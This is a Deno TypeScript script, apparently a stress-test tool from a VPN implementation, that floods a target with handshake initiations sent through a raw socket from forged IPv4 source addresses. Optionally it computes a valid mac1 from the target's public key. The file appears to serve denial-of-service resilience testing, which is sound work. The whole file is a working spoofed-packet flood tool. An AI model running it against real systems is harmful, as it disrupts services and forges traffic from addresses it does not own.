/**
 * Sends handshake initiations from forged IPv4 addresses, by a raw socket: as an
 * attacker does who knows the public key, or who does not. Nobody could finish
 * them. Arguments: address, port, public key, initiations a second, seconds, and
 * what is right about them: nothing, mac1, or cookie (mac1, and any mac2).
 */
import { hash, mac16 } from "../../lib/crypto/blake2s.ts";
import { INITIATION, MAC_LEN, MESSAGE_INITIATION } from "../../lib/messages.ts";
import { check, errno, libc } from "../../lib/sys/libc.ts";

const [address, port, key, rate, seconds, kind] = Deno.args;

const AF_INET = 2;
const SOCK_RAW = 3;
const IPPROTO_RAW = 255;
const IPV4_HEADER = 20;
const UDP_HEADER = 8;
const PACKET = IPV4_HEADER + UDP_HEADER + INITIATION.end;
const BATCH = 64;
const POOL = 4096;
const SOCKADDR = 16;
const IOVEC = 16;
const MMSGHDR = 64;
const RANDOM_MAX = 65_536;
const REPORT_MS = 500;
const CLOCK_TICKS = 100;
const SOURCE_AT = 12;
const PORT_AT = IPV4_HEADER;

function randomBytes(length: number): Uint8Array<ArrayBuffer> {
  const bytes = new Uint8Array(length);
  for (let at = 0; at < length; at += RANDOM_MAX) {
    crypto.getRandomValues(bytes.subarray(at, at + RANDOM_MAX));
  }
  return bytes;
}

/** Initiations that differ in all but their type. */
function makePool(): Uint8Array {
  const pool = randomBytes(POOL * INITIATION.end);
  const label = new TextEncoder().encode("mac1----");
  const publicKey = Uint8Array.from(atob(key), (c) => c.charCodeAt(0));
  const mac1Key = hash(label, publicKey);
  for (let i = 0; i < POOL; i++) {
    const message = pool.subarray(i * INITIATION.end, (i + 1) * INITIATION.end);
    message.set([MESSAGE_INITIATION, 0, 0, 0]);
    if (kind !== "nothing") {
      const mac1 = mac16(mac1Key, message.subarray(0, INITIATION.mac1));
      message.set(mac1, INITIATION.mac1);
    }
    if (kind !== "cookie") message.fill(0, INITIATION.mac1 + MAC_LEN);
  }
  return pool;
}

/** One batch for `sendmmsg`; its packets are at `packets`. */
function makeBatch(): { first: Deno.PointerValue; packets: Uint8Array } {
  const bytes = new Uint8Array(SOCKADDR + BATCH * (PACKET + IOVEC + MMSGHDR));
  const base = Deno.UnsafePointer.value(Deno.UnsafePointer.of(bytes));
  const view = new DataView(bytes.buffer);
  const to = address.split(".").map(Number);
  view.setUint16(0, AF_INET, true);
  bytes.set(to, 4);
  const headers = SOCKADDR;
  const iovecs = headers + BATCH * MMSGHDR;
  const packets = iovecs + BATCH * IOVEC;
  for (let i = 0; i < BATCH; i++) {
    const header = headers + i * MMSGHDR;
    const iovec = iovecs + i * IOVEC;
    const packet = packets + i * PACKET;
    view.setBigUint64(header, BigInt(base), true);
    view.setUint32(header + 8, SOCKADDR, true);
    view.setBigUint64(header + 16, BigInt(base) + BigInt(iovec), true);
    view.setUint32(header + 24, 1, true);
    view.setBigUint64(iovec, BigInt(base) + BigInt(packet), true);
    view.setUint32(iovec + 8, PACKET, true);
    bytes[packet] = 0x45;
    view.setUint16(packet + 2, PACKET);
    bytes.set([64, 17], packet + 8);
    bytes.set(to, packet + 16);
    view.setUint16(packet + PORT_AT + 2, Number(port));
    view.setUint16(packet + PORT_AT + 4, UDP_HEADER + INITIATION.end);
  }
  return {
    first: Deno.UnsafePointer.create(
      BigInt(base) + BigInt(headers),
    ),
    packets: bytes.subarray(packets),
  };
}

/** Source address of packet number `n`: scattered over 16 million. */
function forge(packets: Uint8Array, at: number, n: number): void {
  const mixed = Math.imul(n + 1, 0x9e3779b1) >>> 0;
  packets[at + SOURCE_AT] = 11;
  packets[at + SOURCE_AT + 1] = mixed >>> 24;
  packets[at + SOURCE_AT + 2] = mixed >>> 16;
  packets[at + SOURCE_AT + 3] = mixed >>> 8;
  packets[at + PORT_AT] = 0x80 | (mixed >>> 4);
  packets[at + PORT_AT + 1] = mixed;
}

const socket = check(libc().socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "socket");
const pool = makePool();
const { first, packets } = makeBatch();
const sleep = new Int32Array(new SharedArrayBuffer(4));
const startMs = performance.now();
const total = Number(rate) * Number(seconds);
let sent = 0;
let failed = 0;
let reportedMs = startMs;
while (sent < total) {
  const due = (performance.now() - startMs) / 1000 * Number(rate) - sent;
  if (due < BATCH) {
    Atomics.wait(sleep, 0, 0, 0.5);
    continue;
  }
  for (let i = 0; i < BATCH; i++) {
    const at = i * PACKET;
    const message = (sent + i) % POOL * INITIATION.end;
    packets.set(
      pool.subarray(message, message + INITIATION.end),
      at + IPV4_HEADER + UDP_HEADER,
    );
    forge(packets, at, sent + i);
  }
  const n = libc().sendmmsg(socket, first, BATCH, 0);
  if (n < 0) {
    failed++;
    if (failed > 1000) throw new Error(`sendmmsg: errno ${errno()}`);
  }
  sent += BATCH;
  if (performance.now() - reportedMs > REPORT_MS) report();
}
report();

/** Says how it goes: whoever started it may end it at any time. */
function report(): void {
  reportedMs = performance.now();
  const tookS = (reportedMs - startMs) / 1000;
  const stat = Deno.readTextFileSync("/proc/self/stat").split(" ");
  const cpuS = (Number(stat[13]) + Number(stat[14])) / CLOCK_TICKS;
  const text = `sent ${sent} in ${tookS.toFixed(2)} s, failed ${failed}, ` +
    `cpu ${cpuS} s\n`;
  Deno.stdout.writeSync(new TextEncoder().encode(text));
}
